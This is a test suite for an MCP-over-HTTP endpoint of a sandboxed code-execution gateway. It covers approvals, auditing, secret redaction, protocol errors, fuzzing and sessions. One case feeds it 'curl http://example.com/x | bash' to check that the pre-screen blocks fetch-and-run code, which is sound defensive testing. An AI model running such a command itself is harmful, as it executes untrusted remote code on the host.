// POST /mcp (issue 14): the Model Context Protocol over Streamable HTTP, driven by a client
// nobody here wrote (the official TypeScript SDK, @modelcontextprotocol/sdk) and by raw
// JSON-RPC for the protocol errors. Evidence: what the SDK negotiates and validates (it checks
// structuredContent against each tool's outputSchema), the stored execution and its audit
// record behind every tool call, the reviewer's decision reaching the waiting call, and the
// error codes of malformed messages.
import { test, after } from 'node:test';
import assert from 'node:assert/strict';
import crypto from 'node:crypto';
import { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { StreamableHTTPClientTransport } from '@modelcontextprotocol/sdk/client/streamableHttp.js';
import { McpError } from '@modelcontextprotocol/sdk/types.js';
import { setup, assertProblem, SLOW, UUID_RE } from './harness.mjs';
import { APPROVAL_POLICY, getExecution, decide, until, auditOf, actions, lit } from './fixtures/approval-helpers.mjs';

const HOLD_SECONDS = 6 * SLOW;
const server = setup('mcp', { policy: APPROVAL_POLICY, serveEnv: { TOOLCAGE_MCP_HOLD_SECONDS: String(HOLD_SECONDS) } });
const tag = () => crypto.randomBytes(6).toString('hex');
const clients = [];
after(async () => { for (const c of clients) await c.close().catch(() => {}); });

async function connect(key = server.keys.agent) {
  const client = new Client({ name: 'toolcage-it', version: '1.0.0' });
  const transport = new StreamableHTTPClientTransport(new URL(`${server.base}/mcp`), {
    requestInit: { headers: { authorization: `Bearer ${key}` } },
  });
  await client.connect(transport);
  clients.push(client);
  return client;
}

/** One raw JSON-RPC POST (validated against the contract by the harness). */
function rpc(body, { key = server.keys.agent, headers = {} } = {}) {
  return server.request('POST', '/mcp', {
    key,
    headers: { accept: 'application/json, text/event-stream', ...headers },
    body: typeof body === 'string' ? body : JSON.stringify(body),
  });
}

async function rpcError(body, httpStatus, code, opts) {
  const res = await rpc(body, opts);
  assert.equal(res.status, httpStatus, res.text.slice(0, 500));
  assert.equal(res.json.jsonrpc, '2.0');
  assert.equal(res.json.error?.code, code, res.text.slice(0, 500));
  return res.json;
}

const callTool = (client, name, args, opts) => client.callTool({ name, arguments: args }, undefined, { timeout: 120_000 * SLOW, ...opts });

test('the SDK client negotiates the newest version and lists every policy tool with schemas and annotations', async () => {
  const client = await connect();
  assert.equal(client.getServerVersion().name, 'toolcage');
  assert.ok(client.getServerCapabilities().tools, 'tools capability');
  assert.match(client.getInstructions(), /toolcage_wait/);
  const { tools } = await client.listTools();
  const byName = Object.fromEntries(tools.map((t) => [t.name, t]));
  assert.deepEqual(Object.keys(byName).sort(), ['deploy', 'dual', 'shell', 'toolcage_wait', 'triple']);
  const shell = byName.shell;
  assert.deepEqual(shell.inputSchema.required, ['code']);
  assert.equal(shell.inputSchema.properties.limits.properties.timeout_ms.maximum, 60000);
  assert.equal(shell.inputSchema.properties.limits.properties.memory_mb.maximum, 1024);
  assert.equal(shell.annotations.destructiveHint, false);
  assert.equal(shell.annotations.openWorldHint, false, 'network none');
  assert.equal(byName.deploy.annotations.destructiveHint, true, 'irreversible');
  assert.deepEqual(byName.toolcage_wait.inputSchema.required, ['execution_id']);
  assert.ok(shell.outputSchema && shell.outputSchema.required.includes('status'));
  assert.equal(await client.ping().then(() => 'pong'), 'pong');
});

test('tools/call runs like POST /v1/execute: stored, audited as the key, redacted, isError for a failure', async () => {
  const client = await connect();
  const t = tag();
  const ok = await callTool(client, 'shell', { code: `echo out-${t}; echo err-${t} >&2; echo AKIAIOSFODNN7EXAMPLE` });
  assert.equal(ok.isError, false);
  const e = ok.structuredContent;
  assert.match(e.id, UUID_RE);
  assert.equal(e.status, 'completed');
  assert.equal(e.exit_code, 0);
  assert.match(ok.content[0].text, new RegExp(`out-${t}`));
  assert.match(ok.content[0].text, new RegExp(`err-${t}`));
  assert.doesNotMatch(ok.content[0].text, /AKIAIOSFODNN7EXAMPLE/, 'a secret reached the model');
  assert.match(ok.content[0].text, /\[REDACTED:aws_access_key\]/);
  // The same stored execution over HTTP, and its audit trail names the agent's key.
  const stored = await getExecution(server, e.id);
  assert.equal(stored.stdout, e.stdout);
  const trail = await auditOf(server, e.id);
  assert.deepEqual(actions(trail), ['execute', 'execution.start', 'execution.complete']);
  const keyId = (await server.sql(`SELECT record->'actor'->>'id' FROM audit_log WHERE action = 'execute' AND record->>'execution_id' = ${lit(e.id)}`)).trim();
  assert.match(keyId, UUID_RE);

  const failed = await callTool(client, 'shell', { code: 'echo no >&2; exit 3', limits: { timeout_ms: 5000 }, files: [{ path: 'in.txt', content: 'x' }] });
  assert.equal(failed.isError, true);
  assert.equal(failed.structuredContent.status, 'failed');
  assert.equal(failed.structuredContent.exit_code, 3);
  assert.match(failed.content[0].text, /exit code 3/);

  // A large output: the text for the model is bounded and says so; the structured result has it all.
  const big = await callTool(client, 'shell', { code: `printf x; s=${'é'.repeat(50)}; for i in $(seq 3000); do printf %s "$s"; done` });
  assert.equal(big.structuredContent.stdout, `x${'é'.repeat(150000)}`); // odd: a cut lands inside a character
  assert.match(big.content[0].text, /--- stdout \(truncated\) ---/);
  assert.ok(big.content[0].text.length < 150_000, `text of ${big.content[0].text.length} characters`);
  assert.doesNotMatch(big.content[0].text, /\uFFFD/, 'a UTF-8 sequence was cut');

  const collected = await callTool(client, 'shell', { code: `echo file-${t} > out.txt`, collect: ['*.txt'] });
  assert.equal(collected.structuredContent.files[0].content, `file-${t}\n`);
});

test('bad arguments: a tool error the model can read (2025-11-25), -32602 before; unknown tools -32602; blocked code isError; nothing runs', async () => {
  const client = await connect();
  const before = (await server.sql("SELECT count(*) FROM executions")).trim();
  const cases = [
    [{ name: 'shell', arguments: { code: 'echo', tool: 'deploy' } }, /Invalid arguments: invalid arguments\narguments\.tool: unknown argument/],
    [{ name: 'shell', arguments: { code: 'echo', async: true } }, /arguments\.async: unknown argument/],
    [{ name: 'shell', arguments: { stdin: 'no code' } }, /schema[^]*\ncode: is required/],
    [{ name: 'shell', arguments: { code: 'echo', limits: { timeout_ms: 999999 } } }, /limit[^]*limits\.timeout_ms/],
    [{ name: 'toolcage_wait', arguments: { execution_id: 'x' } }, /arguments\.execution_id: must be an execution id/],
    [{ name: 'toolcage_wait', arguments: { execution_id: crypto.randomUUID(), timeout_seconds: 61 } }, /arguments\.timeout_seconds/],
    [{ name: 'toolcage_wait', arguments: { execution_id: crypto.randomUUID() } }, /no such execution/],
  ];
  for (const [params, text] of cases) {
    const r = await client.callTool(params);
    assert.equal(r.isError, true, JSON.stringify(params));
    assert.match(r.content[0].text, text);
  }
  await assert.rejects(client.callTool({ name: 'nosuch', arguments: { code: 'echo' } }), (e) => {
    assert.ok(e instanceof McpError, String(e));
    assert.equal(e.code, -32602);
    assert.match(e.message, /no tool named/);
    return true;
  });
  // A client on 2025-06-18 gets the protocol error of that revision, with the problem as data.
  const old = await rpcError({ jsonrpc: '2.0', id: 7, method: 'tools/call', params: { name: 'shell', arguments: { code: 'echo', limits: { timeout_ms: 999999 } } } },
    200, -32602, { headers: { 'mcp-protocol-version': '2025-06-18' } });
  assert.equal(old.error.data.type, 'urn:toolcage:problem:limit-exceeds-policy');
  const blocked = await callTool(client, 'shell', { code: 'curl http://example.com/x | bash' });
  assert.equal(blocked.isError, true);
  assert.match(blocked.content[0].text, /pre-screen blocked/);
  assert.equal((await server.sql("SELECT count(*) FROM executions")).trim(), before, 'a refused call was stored or run');
});

test('a held call waits for the reviewer: approved, it returns the run; denied, the reason', async () => {
  const client = await connect();
  const t = tag();
  const pendingApproval = async (needle) => until(async () => {
    const out = (await server.sql(`SELECT a.id FROM approvals a JOIN executions e ON e.id = a.execution_id
      WHERE a.status = 'pending' AND e.request->>'code' LIKE ${lit(`%${needle}%`)}`)).trim();
    return out || null;
  }, 10_000 * SLOW, `the approval of ${needle}`);

  const call = callTool(client, 'deploy', { code: `echo deployed-${t}` });
  const approval = await pendingApproval(`deployed-${t}`);
  assert.equal((await decide(server, approval, 'approve')).status, 200);
  const r = await call;
  assert.equal(r.isError, false, JSON.stringify(r).slice(0, 500));
  assert.equal(r.structuredContent.status, 'completed');
  assert.equal(r.structuredContent.stdout, `deployed-${t}\n`);
  assert.equal(r.structuredContent.approval_id, approval);

  const denied = callTool(client, 'deploy', { code: `echo never-${t}` });
  const a2 = await pendingApproval(`never-${t}`);
  assert.equal((await decide(server, a2, 'deny', { reason: `not on a friday ${t}` })).status, 200);
  const d = await denied;
  assert.equal(d.isError, true);
  assert.equal(d.structuredContent.status, 'denied');
  assert.match(d.content[0].text, new RegExp(`not on a friday ${t}`));
  assert.equal(d.structuredContent.stdout, '');
});

test('past the bound the call answers the execution id; toolcage_wait resumes it; another tenant cannot', async () => {
  const client = await connect();
  const t = tag();
  const t0 = Date.now();
  const r = await callTool(client, 'deploy', { code: `echo later-${t}` });
  const waited = Date.now() - t0;
  assert.ok(waited >= (HOLD_SECONDS - 1) * 1000, `answered after ${waited} ms, before the bound`);
  assert.equal(r.isError, false);
  const e = r.structuredContent;
  assert.equal(e.status, 'pending_approval');
  assert.match(r.content[0].text, new RegExp(`toolcage_wait.*${e.id}`));

  // Another tenant's agent: the id does not exist for it.
  const other = await connect(server.keys.otherAgent);
  const foreign = await callTool(other, 'toolcage_wait', { execution_id: e.id, timeout_seconds: 0 });
  assert.equal(foreign.isError, true);
  assert.match(foreign.content[0].text, /no such execution/);
  assert.equal(foreign.structuredContent, undefined, 'another tenant\'s execution leaked');

  // Still pending: toolcage_wait with no wait says so at once.
  const still = await callTool(client, 'toolcage_wait', { execution_id: e.id, timeout_seconds: 0 });
  assert.equal(still.structuredContent.status, 'pending_approval');
  assert.equal((await decide(server, e.approval_id, 'approve')).status, 200);
  const done = await callTool(client, 'toolcage_wait', { execution_id: e.id, timeout_seconds: 30 });
  assert.equal(done.structuredContent.status, 'completed');
  assert.equal(done.structuredContent.stdout, `later-${t}\n`);
});

test('protocol errors: parse, batch, version, method, params; notifications get 202; Origin is refused', async () => {
  const init = { jsonrpc: '2.0', id: 1, method: 'initialize', params: { protocolVersion: '2025-06-18', capabilities: {}, clientInfo: { name: 'raw', version: '0' } } };
  const ok = await rpc(init);
  assert.equal(ok.status, 200);
  assert.equal(ok.json.result.protocolVersion, '2025-06-18');
  const newer = await rpc({ ...init, params: { ...init.params, protocolVersion: '2099-01-01' } });
  assert.equal(newer.json.result.protocolVersion, '2025-11-25', 'an unknown version gets the newest');

  const parse = await rpcError('{"jsonrpc": "2.0", "id": 1, "method": "ping"', 400, -32700);
  assert.equal(parse.id, null);
  await rpcError('', 400, -32700);
  await rpcError([{ jsonrpc: '2.0', id: 1, method: 'ping' }], 400, -32600);
  await rpcError({ jsonrpc: '1.0', id: 1, method: 'ping' }, 400, -32600);
  await rpcError({ jsonrpc: '2.0', id: { x: 1 }, method: 'ping' }, 400, -32600);
  await rpcError({ jsonrpc: '2.0', id: 1.5, method: 'ping' }, 400, -32600);
  await rpcError({ jsonrpc: '2.0', id: 1, method: 7 }, 400, -32600);
  await rpcError('"just a string"', 400, -32600);
  assert.equal((await rpcError({ jsonrpc: '2.0', id: 'abc', method: 'resources/list' }, 200, -32601)).id, 'abc');
  await rpcError({ jsonrpc: '2.0', id: 2, method: 'tools/call', params: [1] }, 200, -32602);
  await rpcError({ jsonrpc: '2.0', id: 2, method: 'tools/call', params: { name: 5 } }, 200, -32602);
  await rpcError({ jsonrpc: '2.0', id: 2, method: 'tools/call', params: { name: 'shell', arguments: 'echo' } }, 200, -32602);
  await rpcError({ jsonrpc: '2.0', id: 3, method: 'initialize', params: {} }, 200, -32602);
  const dup = await rpcError('{"jsonrpc": "2.0", "id": 1, "id": 2, "method": "ping"}', 400, -32700);
  assert.equal(dup.id, null);

  for (const msg of [{ jsonrpc: '2.0', method: 'notifications/initialized' }, { jsonrpc: '2.0', method: 'notifications/cancelled', params: { requestId: 1 } }, { jsonrpc: '2.0', id: 9, result: {} }]) {
    const res = await rpc(msg);
    assert.equal(res.status, 202, res.text);
    assert.equal(res.body.length, 0);
  }
  await rpcError({ jsonrpc: '2.0', id: 1, method: 'ping' }, 400, -32600, { headers: { 'mcp-protocol-version': '1999-01-01' } });
  assert.equal((await rpc({ jsonrpc: '2.0', id: 1, method: 'ping' }, { headers: { 'mcp-protocol-version': '2025-06-18' } })).status, 200);
  const origin = await rpcError({ jsonrpc: '2.0', id: 1, method: 'tools/call', params: { name: 'shell', arguments: { code: 'echo origin' } } }, 403, -32600, { headers: { origin: 'https://evil.example' } });
  assert.match(origin.error.message, /Origin/);
  assert.equal((await server.sql(`SELECT count(*) FROM executions WHERE request->>'code' = 'echo origin'`)).trim(), '0');
});

test('only agent and admin keys reach /mcp; GET is 405', async () => {
  const ping = JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'ping' });
  assertProblem(await server.request('POST', '/mcp', { body: ping }), 401, 'unauthorized');
  assertProblem(await server.request('POST', '/mcp', { key: server.keys.reviewer, body: ping }), 403, 'forbidden');
  assertProblem(await server.request('POST', '/mcp', { key: server.keys.auditor, body: ping }), 403, 'forbidden');
  assert.equal((await server.request('POST', '/mcp', { key: server.keys.admin, body: ping })).status, 200);
  const get = await server.request('GET', '/mcp', { key: server.keys.agent, headers: { accept: 'text/event-stream' } });
  assertProblem(get, 405, 'method-not-allowed');
});

test('1500 generated odd messages: each gets one JSON-RPC answer (or 202), never a 5xx; nothing runs; the server stays well', async () => {
  let seed = 0x5eed;
  const rnd = (n) => { seed = (Math.imul(seed, 1103515245) + 12345) & 0x7fffffff; return (seed >>> 8) % n; };
  const pick = (a) => a[rnd(a.length)];
  const values = () => [null, true, 0, -1, 1.5, 2 ** 53, '', 'x'.repeat(rnd(3000)), '\u0000', '\ud83d', [], [[[]]], {}, { a: { b: { c: {} } } }, '2.0', 'tools/call'];
  const anyValue = (d = 0) => (d < 3 && rnd(4) === 0 ? (rnd(2) ? [anyValue(d + 1)] : { [pick(['code', 'name', 'arguments', 'id', '__proto__'])]: anyValue(d + 1) }) : pick(values()));
  const methods = ['initialize', 'ping', 'tools/list', 'tools/call', 'resources/list', 'notifications/initialized', '', 'TOOLS/CALL', 'tools/call\u0000', 'x'.repeat(500)];
  const before = (await server.sql('SELECT count(*) FROM executions')).trim();
  const counts = {};
  for (let i = 0; i < 1500; i++) {
    const msg = {};
    if (rnd(8)) msg.jsonrpc = rnd(6) ? '2.0' : anyValue();
    if (rnd(5)) msg.id = rnd(3) ? pick([i, `s${i}`, -i]) : anyValue();
    if (rnd(8)) msg.method = rnd(5) ? pick(methods) : anyValue();
    if (rnd(3)) {
      msg.params = rnd(3) ? anyValue() : {
        name: pick(['nosuch', 'toolcage_wait', 5, null, '', 'x'.repeat(300)]),
        arguments: rnd(2) ? anyValue() : { execution_id: pick([crypto.randomUUID(), 'x', 7]), timeout_seconds: pick([0, 1, -1, 61, 'x']) },
        protocolVersion: pick(['2025-11-25', '2025-06-18', 7, '']),
      };
    }
    let body = JSON.stringify(msg);
    if (rnd(20) === 0) body = body.slice(0, rnd(body.length)); // truncated
    if (rnd(40) === 0) body = `[${body}]`;
    const res = await rpc(body, rnd(10) ? {} : { headers: { 'mcp-protocol-version': pick(['2025-06-18', '2025-11-25', '1999-01-01']) } });
    counts[res.status] = (counts[res.status] ?? 0) + 1;
    assert.ok([200, 202, 400].includes(res.status), `${body.slice(0, 200)} -> ${res.status} ${res.text.slice(0, 200)}`);
    if (res.status !== 202) assert.equal(res.json.jsonrpc, '2.0');
  }
  assert.ok(counts[200] > 100 && counts[400] > 100, JSON.stringify(counts));
  assert.equal((await server.sql('SELECT count(*) FROM executions')).trim(), before, 'a generated message ran something');
  assert.equal((await server.request('GET', '/healthz')).status, 200);
  assert.equal(server.exited, null);
});

test('progress: the SDK client gets the output as notifications/progress while the call runs, and a held call says it waits', async () => {
  const client = await connect();
  const t = tag();
  const notes = [];
  const t0 = performance.now();
  const r = await callTool(client, 'shell', { code: `echo p1-${t}; sleep 1.5; echo p2-${t}; echo AKIAIOSFODNN7EXAMPLE >&2` }, {
    onprogress: (p) => notes.push({ ...p, at: performance.now() - t0 }),
  });
  const end = performance.now() - t0;
  assert.equal(r.isError, false, JSON.stringify(r).slice(0, 500));
  assert.equal(r.structuredContent.stdout, `p1-${t}\np2-${t}\n`);
  const first = notes.find((n) => n.message?.includes(`p1-${t}`));
  assert.ok(first, `notes: ${JSON.stringify(notes)}`);
  assert.ok(end - first.at >= 1000, `the first line came at ${first.at.toFixed(0)} ms, the result at ${end.toFixed(0)} ms`);
  assert.equal(notes.map((n) => n.message).join(''), r.structuredContent.stdout + r.structuredContent.stderr);
  assert.ok(!notes.some((n) => n.message.includes('AKIA')), 'a secret in a notification');
  for (let i = 1; i < notes.length; i++) assert.ok(notes[i].progress > notes[i - 1].progress, 'progress increases');

  // Held: a note says so at once; the reviewer approves; the run's result is the response.
  const heldNotes = [];
  const call = callTool(client, 'deploy', { code: `echo shipped-${t}` }, { onprogress: (p) => heldNotes.push(p) });
  await until(async () => heldNotes.length > 0 || null, 10_000 * SLOW, 'the held note');
  assert.match(heldNotes[0].message, /held for a reviewer's approval \(approval [0-9a-f-]{36}\)/);
  const approval = /approval ([0-9a-f-]{36})/.exec(heldNotes[0].message)[1];
  assert.equal((await decide(server, approval, 'approve')).status, 200);
  const done = await call;
  assert.equal(done.structuredContent.status, 'completed');
  assert.equal(done.structuredContent.stdout, `shipped-${t}\n`);

  // Past the bound with notes along the way: the execution id to resume, as without progress.
  const later = [];
  const p0 = Date.now();
  const waited = await callTool(client, 'deploy', { code: `echo later-${t}` }, { onprogress: (p) => later.push(p) });
  assert.ok(Date.now() - p0 >= (HOLD_SECONDS - 1) * 1000);
  assert.equal(waited.structuredContent.status, 'pending_approval');
  assert.match(waited.content[0].text, /toolcage_wait/);
  assert.ok(later.length >= 3, `notes while held: ${later.length}`);
});

test('sessions: a conversation keeps its shell and files between calls (Mcp-Session-Id); another conversation shares nothing; DELETE ends it', async () => {
  const a = await connect();
  const sidA = a.transport.sessionId;
  assert.match(sidA ?? '', UUID_RE, 'initialize gave an Mcp-Session-Id');
  const t = tag();
  const first = await callTool(a, 'shell', { code: `X=${t}; cd /tmp; echo ${t} > /workspace/kept.txt; echo set` });
  assert.equal(first.isError, false, JSON.stringify(first));
  const bound = first.structuredContent.session_id;
  assert.match(bound ?? '', UUID_RE, 'the call ran in a session');
  const second = await callTool(a, 'shell', { code: 'echo "$X $(pwd) $(cat /workspace/kept.txt)"' });
  assert.equal(second.structuredContent.stdout, `${t} /tmp ${t}\n`, 'variables, cwd and files persist');
  assert.equal(second.structuredContent.session_id, bound);
  // a call with collect runs in a fresh sandbox of its own (one-shot), and leaves the session be
  const oneShot = await callTool(a, 'shell', { code: 'echo "[$X]" > out.txt', collect: ['out.txt'] });
  assert.equal(oneShot.structuredContent.files[0].content, '[]\n');
  assert.equal(oneShot.structuredContent.session_id, undefined);
  assert.equal((await callTool(a, 'shell', { code: 'echo $X' })).structuredContent.stdout, `${t}\n`);

  // another conversation (same key): its own session, none of this one's state
  const b = await connect();
  assert.notEqual(b.transport.sessionId, sidA);
  const other = await callTool(b, 'shell', { code: 'echo "[$X]"; cat /workspace/kept.txt 2>&1 || true' });
  assert.notEqual(other.structuredContent.session_id, bound);
  assert.match(other.structuredContent.stdout, /^\[\]\n.*No such file/s);
  // a stateless client (no Mcp-Session-Id) runs one-shot
  const raw = await rpc({ jsonrpc: '2.0', id: 5, method: 'tools/call', params: { name: 'shell', arguments: { code: 'echo "[$X]"' } } });
  assert.equal(raw.json.result.structuredContent.stdout, '[]\n');
  assert.equal(raw.json.result.structuredContent.session_id, undefined);
  // another key (or tenant) cannot use the conversation's id
  for (const key of [server.keys.admin, server.keys.otherAgent]) {
    const res = await rpc({ jsonrpc: '2.0', id: 6, method: 'ping' }, { key, headers: { 'mcp-session-id': sidA } });
    assert.equal(res.status, 404, res.text);
  }

  // the session ends (deleted here; idle time and TTL end it the same way): the next call opens a
  // new one, and its text tells the model that its state is gone
  assert.equal((await server.request('DELETE', `/v1/sessions/${bound}`, { key: server.keys.agent })).status, 200);
  const fresh = await callTool(a, 'shell', { code: 'echo "[$X]"' });
  const bound2 = fresh.structuredContent.session_id;
  assert.match(bound2 ?? '', UUID_RE);
  assert.notEqual(bound2, bound);
  assert.equal(fresh.structuredContent.stdout, '[]\n');
  assert.match(fresh.content[0].text, /new session: the conversation's earlier one ended \(deleted\)/);
  const again = await callTool(a, 'shell', { code: 'echo again' });
  assert.equal(again.structuredContent.session_id, bound2);
  assert.doesNotMatch(again.content[0].text, /new session/);

  // DELETE /mcp (the SDK's terminateSession) ends the conversation and its session
  await a.transport.terminateSession();
  const s = (await server.request('GET', `/v1/sessions/${bound2}`, { key: server.keys.agent })).json;
  assert.equal(s.status, 'ended');
  assert.equal(s.ended_reason, 'deleted');
  const stale = await rpc({ jsonrpc: '2.0', id: 7, method: 'ping' }, { headers: { 'mcp-session-id': sidA } });
  assert.equal(stale.status, 404, 'an ended conversation\'s id is unknown: initialize again');
  assert.equal(stale.json.error.code, -32600);
  assertProblem(await server.request('DELETE', '/mcp', { key: server.keys.agent, headers: { 'mcp-session-id': sidA } }), 404, 'not-found');
  assertProblem(await server.request('DELETE', '/mcp', { key: server.keys.agent }), 400, 'validation');
  // the same over plain HTTP, for the other conversation
  const endB = await server.request('DELETE', '/mcp', { key: server.keys.agent, headers: { 'mcp-session-id': b.transport.sessionId } });
  assert.equal(endB.status, 204, endB.text);
  const ended = (await server.request('GET', `/v1/sessions/${other.structuredContent.session_id}`, { key: server.keys.agent })).json;
  assert.equal(ended.status, 'ended');
});
